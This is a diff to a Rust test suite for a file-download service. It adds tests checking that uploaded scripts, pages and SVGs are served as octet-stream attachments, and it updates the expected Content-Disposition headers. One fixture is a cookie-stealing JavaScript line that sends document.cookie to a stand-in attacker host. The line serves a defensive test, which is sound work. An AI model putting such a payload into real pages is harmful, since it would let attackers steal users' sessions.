@@ -226,7 +226,7 @@ async fn a_plain_download_carries_every_header() {
     assert_eq!(header(&response, "x-content-type-options"), "nosniff");
     assert_eq!(
         header(&response, "content-disposition"),
-        "attachment; filename=\"notes.txt\""
+        "attachment; filename=\"notes.txt\"; filename*=UTF-8''notes.txt"
     );
     assert!(header(&response, "etag").starts_with('"'));
     let modified = header(&response, "last-modified");
@@ -487,12 +487,12 @@ async fn a_png_asked_inline_is_inline() {
     assert_eq!(header(&inline, "content-type"), "image/png");
     assert_eq!(
         header(&inline, "content-disposition"),
-        "inline; filename=\"dot.png\""
+        "inline; filename=\"dot.png\"; filename*=UTF-8''dot.png"
     );
     let plain = staff.get(&download_url(&png)).await;
     assert_eq!(
         header(&plain, "content-disposition"),
-        "attachment; filename=\"dot.png\""
+        "attachment; filename=\"dot.png\"; filename*=UTF-8''dot.png"
     );
 }
 
@@ -581,4 +581,66 @@ async fn apache_mode_hands_over_with_x_sendfile_and_no_body() {
     assert_eq!(header(&response, "cache-control"), "private, no-cache");
     assert!(response.headers().get("x-accel-redirect").is_none());
     assert!(response.bytes().await.unwrap().is_empty());
+}
+
+/// Scripts, pages and images named as active content: the sniffer sees text or a PNG, the
+/// name says a browser would run it. Both views, with and without `?inline=1`.
+#[tokio::test]
+async fn files_named_as_active_content_are_octet_stream_attachments() {
+    let app = spawn_app_with(|s| s.access.path_rule = PathRule::Staff).await;
+    let staff = app.logged_in("stella", Role::Staff).await;
+    let cases: [(&str, &[u8]); 4] = [
+        (
+            "app.js",
+            b"document.location = 'https://evil.example/?' + document.cookie;",
+        ),
+        ("evil.html", b"hello, plain words in a file named as a page"),
+        ("image.svg", PNG),
+        ("style.CSS", b"body { background: red }"),
+    ];
+    for (name, bytes) in cases {
+        let file = upload_file(&app, &staff, name, bytes, "staff", None, &[]).await;
+        assert!(
+            !file.content_type.contains("javascript") && !file.content_type.contains("html"),
+            "{name} was sniffed as {}",
+            file.content_type
+        );
+        for url in [download_url(&file), path_url(&file)] {
+            for query in ["", "?inline=1"] {
+                let response = staff.get(&format!("{url}{query}")).await;
+                assert_eq!(response.status(), StatusCode::OK, "{url}{query}");
+                assert_eq!(
+                    header(&response, "content-type"),
+                    "application/octet-stream",
+                    "{url}{query}"
+                );
+                assert_eq!(
+                    header(&response, "content-disposition"),
+                    format!("attachment; filename=\"{name}\"; filename*=UTF-8''{name}"),
+                    "{url}{query}"
+                );
+            }
+        }
+    }
+}
+
+#[tokio::test]
+async fn ascii_names_carry_both_filename_parameters() {
+    let app = spawn_app().await;
+    let staff = app.logged_in("stella", Role::Staff).await;
+    let file = upload_file(
+        &app,
+        &staff,
+        "report 2026.pdf",
+        b"%PDF-1.7\n",
+        "staff",
+        None,
+        &[],
+    )
+    .await;
+    let response = staff.get(&download_url(&file)).await;
+    assert_eq!(
+        header(&response, "content-disposition"),
+        "attachment; filename=\"report 2026.pdf\"; filename*=UTF-8''report%202026.pdf"
+    );
 }
